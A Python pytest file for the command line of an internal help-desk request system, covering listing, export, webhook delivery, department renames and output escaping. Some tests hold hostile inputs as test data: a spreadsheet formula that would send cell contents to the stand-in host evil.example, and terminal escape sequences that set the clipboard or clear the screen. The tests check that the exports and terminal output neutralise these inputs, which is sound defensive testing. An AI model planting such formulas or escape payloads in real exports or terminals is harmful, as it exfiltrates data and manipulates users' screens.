"""The command line: `kb requests …` on a real store."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from kb.requests.service import RequestService
from kb.settings import Settings
from kb.store.factory import create_store
from tests.kb.conftest import on_both_backends
from tests.support import EMPLOYEE, IT_AGENT, Clock, run_kb, run_kb_on_terminal


@pytest.fixture
def filed(env: dict[str, str]) -> list[int]:
    """Two requests in the store: one new, one resolved."""
    settings = Settings.load(environ=env)
    store = create_store(env["KB_DATABASE_URL"])
    store.add_user(IT_AGENT)
    service = RequestService.from_settings(settings, store, clock=Clock())
    first = service.submit(EMPLOYEE, "VPN drops every hour", department="it")
    second = service.submit(EMPLOYEE, "Printer offline", department="it")
    assert first.id is not None and second.id is not None
    service.comment(IT_AGENT, second.id, "Checked the toner.", visible_to_requester=False)
    service.resolve(IT_AGENT, second.id, "Power-cycled it.")
    store.close()
    return [first.id, second.id]


@on_both_backends
def test_requests_list_show_and_export(
    env: dict[str, str], filed: list[int], tmp_path: Path
) -> None:
    listed = run_kb(env, "requests", "list")
    assert listed.exit_code == 0, listed.output
    assert "#1\tit\tnew" in listed.output and "Printer" not in listed.output
    assert " UTC\tVPN drops every hour" in listed.output  # not the web's working time zone
    resolved = json.loads(run_kb(env, "requests", "list", "--status", "resolved", "--json").output)
    assert [(r["id"], r["overdue"]) for r in resolved] == [(filed[1], False)]
    overdue = json.loads(run_kb(env, "requests", "list", "--overdue", "--json").output)
    assert [r["id"] for r in overdue] == [filed[0]]  # filed in 2026, so long overdue now

    shown = run_kb(env, "requests", "show", str(filed[1]))
    assert "Request #2: Printer offline" in shown.output
    assert "(internal): Checked the toner." in shown.output
    assert " UTC ian comment (internal)" in shown.output
    data = json.loads(run_kb(env, "requests", "show", str(filed[1]), "--json").output)
    assert data["resolution"] == "Power-cycled it."
    # Resolved while nobody held it: its resolver, an agent of IT, holds it now.
    kinds = ["created", "comment", "assigned", "resolution"]
    assert [e["kind"] for e in data["history"]] == kinds and data["assignee"] == "ian"
    missing = run_kb(env, "requests", "show", "99")
    assert missing.exit_code == 1 and "no request with id 99" in missing.output

    rows = list(csv.DictReader(io.StringIO(run_kb(env, "requests", "export").output)))
    assert [(r["id"], r["status"]) for r in rows] == [("1", "new"), ("2", "resolved")]
    out = tmp_path / "requests.jsonl"
    result = run_kb(env, "requests", "export", "--format", "jsonl", "--out", str(out))
    assert "2 requests written" in result.output
    lines = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [line["query"] for line in lines] == ["VPN drops every hour", "Printer offline"]


def test_exported_csv_cells_are_text_never_formulas(env: dict[str, str]) -> None:
    """Any employee writes a request's question and description; in the agents'
    spreadsheet an `=`, `+`, `-` or `@` at the start made them live formulas."""
    store = create_store(env["KB_DATABASE_URL"])
    service = RequestService.from_settings(Settings.load(environ=env), store, clock=Clock())
    formula = '=HYPERLINK("http://evil.example/?"&A2,"Details")'
    service.submit(EMPLOYEE, formula, description="@SUM(1+1)", department="it")
    store.close()
    [row] = list(csv.DictReader(io.StringIO(run_kb(env, "requests", "export").output)))
    assert (row["query"], row["description"]) == ("'" + formula, "'@SUM(1+1)")
    assert row["id"] == "1"
    jsonl = run_kb(env, "requests", "export", "--format", "jsonl").output
    assert json.loads(jsonl)["query"] == formula  # JSON is data, not a sheet: unchanged


@on_both_backends
def test_requests_deliver(env: dict[str, str], filed: list[int]) -> None:
    # IT's webhook (setting webhooks; port 9, nobody listens) gets every IT event.
    result = run_kb(env, "requests", "deliver")
    assert result.exit_code == 0, result.output
    assert "0 delivered, 4 to retry, 0 given up" in result.output
    assert "0 delivered, 0 to retry" in run_kb(env, "requests", "deliver").output


@on_both_backends
def test_move_department_moves_a_renamed_folder_s_requests(
    env: dict[str, str], filed: list[int]
) -> None:
    """The folder `it` renamed to `it-services`: its requests kept the old name, in
    no queue; the command moves them (and says how many), each with an entry."""
    content = Path(env["KB_CONTENT_DIR"])
    (content / "it").rename(content / "it-services")
    typo = run_kb(env, "requests", "move-department", "it", "it-servcies")
    assert typo.exit_code == 1 and "no department 'it-servcies'" in typo.output
    moved = run_kb(env, "requests", "move-department", "it", "it-services")
    assert moved.exit_code == 0, moved.output
    assert (
        "moved 2 requests and 0 tasks" in moved.output and "from it to it-services" in moved.output
    )
    data = json.loads(run_kb(env, "requests", "show", str(filed[0]), "--json").output)
    assert data["department"] == "it-services"
    last = data["history"][-1]
    assert (last["kind"], last["actor"]) == ("reassigned", "kb-cli")
    assert last["data"]["renamed"] is True and not last["visible_to_requester"]
    again = run_kb(env, "requests", "move-department", "it", "it-services")
    assert "moved 0 requests" in again.output


@on_both_backends
def test_move_department_names_the_grants_left_and_moves_them_when_asked(
    env: dict[str, str], filed: list[int]
) -> None:
    content = Path(env["KB_CONTENT_DIR"])
    (content / "it").rename(content / "it-services")
    assert (
        run_kb(
            env, "users", "add", "ivan", "--role", "agent", "--department", "it", "--no-password"
        ).exit_code
        == 0
    )
    moved = run_kb(env, "requests", "move-department", "it", "it-services")
    assert moved.exit_code == 0, moved.output
    assert "grant left: ivan agent:it" in moved.output and "--move-grants" in moved.output
    assert "ivan\tagent:it" in run_kb(env, "users", "list").output

    granted = run_kb(
        env,
        "requests",
        "move-department",
        "it",
        "it-services",
        "--move-grants",
        "--reason",
        "Renamed.",
    )
    assert granted.exit_code == 0, granted.output
    assert "moved grant: ivan agent:it → agent:it-services" in granted.output
    assert "grant left" not in granted.output
    assert "ivan\tagent:it-services" in run_kb(env, "users", "list").output
    history = json.loads(run_kb(env, "users", "grant-history", "ivan", "--json").output)
    [change] = [c for c in history if c["change"] == "moved"]
    assert (change["role"], change["from"], change["to"]) == ("agent", "it", "it-services")
    assert (change["by"], change["reason"]) == ("kb-cli", "Renamed.")


def test_requests_list_and_show_print_no_escape_sequence(env: dict[str, str]) -> None:
    """A request's question, description and replies are its writers': an
    escape sequence in them (set the clipboard, clear the screen) is printed as
    its escape, never sent to the terminal of the agent or admin reading it."""
    store = create_store(env["KB_DATABASE_URL"])
    store.add_user(IT_AGENT)
    service = RequestService.from_settings(Settings.load(environ=env), store, clock=Clock())
    attack = "VPN\x1b]52;c;eA==\x07\x1b[2J"
    filed = service.submit(EMPLOYEE, attack, description=f"line one\n{attack}", department="it")
    assert filed.id is not None
    service.comment(IT_AGENT, filed.id, f"Seen.\x1b[8m{attack}", visible_to_requester=False)
    store.close()
    escaped = "VPN\\x1b]52;c;eA==\\x07\\x1b[2J"
    for command in ("list", "show"):
        args = ("requests", command) if command == "list" else ("requests", "show", str(filed.id))
        result = run_kb(env, *args)
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\x07" not in result.output
        assert escaped in result.output
    shown = run_kb(env, "requests", "show", str(filed.id)).output
    assert f"line one\n{escaped}" in shown  # a description keeps its line breaks
    assert f"Seen.\\x1b[8m{escaped}" in shown


def test_export_to_a_terminal_escapes_controls_and_to_a_pipe_keeps_the_data(
    env: dict[str, str],
) -> None:
    """An employee writes a request's question: exported to a terminal, an
    escape sequence in it (set the clipboard, clear the screen, a C1 CSI) is
    printed as its escape; piped or redirected, the export is the data as typed."""
    store = create_store(env["KB_DATABASE_URL"])
    service = RequestService.from_settings(Settings.load(environ=env), store, clock=Clock())
    attack = "VPN\x1b]52;c;eA==\x07\x1b[2J\x9b2J"
    service.submit(EMPLOYEE, attack, description="line one\nline\ttwo\rthree", department="it")
    store.close()

    shown = run_kb_on_terminal(env, "requests", "export")
    assert not any(c in shown for c in "\x1b\x07\x9b")
    [row] = list(csv.DictReader(io.StringIO(shown)))
    assert row["query"] == "VPN\\x1b]52;c;eA==\\x07\\x1b[2J\\x9b2J"
    assert row["description"] == "line one\nline\ttwo\\rthree"  # a cell's lines and tabs stay
    shown_jsonl = run_kb_on_terminal(env, "requests", "export", "--format", "jsonl")
    assert not any(c in shown_jsonl for c in "\x1b\x07\x9b")
    assert json.loads(shown_jsonl)["query"] == attack  # the same JSON value

    [piped] = list(csv.DictReader(io.StringIO(run_kb(env, "requests", "export").output)))
    assert (piped["query"], piped["description"]) == (attack, "line one\nline\ttwo\rthree")
    piped_jsonl = run_kb(env, "requests", "export", "--format", "jsonl").output
    assert "\x9b" in piped_jsonl and json.loads(piped_jsonl)["query"] == attack


def test_json_on_a_terminal_escapes_c1_controls_and_piped_keeps_them(
    env: dict[str, str],
) -> None:
    """`--json` leaves C1 controls and line separators raw (JSON allows them):
    on a terminal they are written as `\\uXXXX`, the same JSON value; piped,
    the output is the data as typed."""
    store = create_store(env["KB_DATABASE_URL"])
    service = RequestService.from_settings(Settings.load(environ=env), store, clock=Clock())
    attack = "VPN\x9b2J\u2028\x7f"
    service.submit(EMPLOYEE, attack, department="it")
    store.close()

    shown = run_kb_on_terminal(env, "requests", "list", "--json")
    assert not any(c in shown for c in "\x9b\u2028\x7f")
    assert [r["query"] for r in json.loads(shown)] == [attack]
    piped = run_kb(env, "requests", "list", "--json").output
    assert "\x9b" in piped and [r["query"] for r in json.loads(piped)] == [attack]
